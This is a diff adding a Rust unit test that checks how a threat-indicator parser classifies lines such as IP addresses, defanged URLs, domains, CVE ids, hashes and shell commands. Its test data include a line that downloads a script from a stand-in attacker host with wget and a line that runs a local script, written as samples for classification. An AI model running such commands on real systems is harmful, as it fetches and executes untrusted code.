@@ -359,3 +359,31 @@ fn what_filters_make_can_be_asked_for() {
     }
     assert!(asked > 200, "{asked}");
 }
+
+#[test]
+fn a_line_of_a_list_is_known_by_its_look() {
+    for (line, sub_type) in [
+        ("203.0.113.9", "ip"),
+        ("203[.]0[.]113[.]9", "ip"),
+        ("2001:db8::9", "ip"),
+        ("203.0.113.0/24", "cidr"),
+        ("CVE-2021-44228", "cve_id"),
+        ("http://evil.example/a.sh", "url"),
+        ("hxxp://evil[.]example/a.sh", "url"),
+        ("evil.example/a.sh", "url"),
+        ("evil.example", "domain"),
+        ("www.evil.example", "hostname"),
+        ("WWW.EVIL[.]EXAMPLE", "hostname"),
+        ("jdoe@example.com", "email_addr"),
+        ("ftp://jdoe@example.com/a", "url"),
+        ("cat /proc/cpuinfo", "shell_command"),
+        ("uname", "shell_command"),
+        ("wget http://evil.example/a.sh", "shell_command"),
+        ("./a.sh", "shell_command"),
+    ] {
+        assert_eq!(guess(line).as_str(), sub_type, "{line}");
+    }
+    for (digits, sub_type) in [(32, "md5"), (40, "sha1"), (64, "sha256"), (128, "sha512")] {
+        assert_eq!(guess(&"A".repeat(digits)).as_str(), sub_type);
+    }
+}
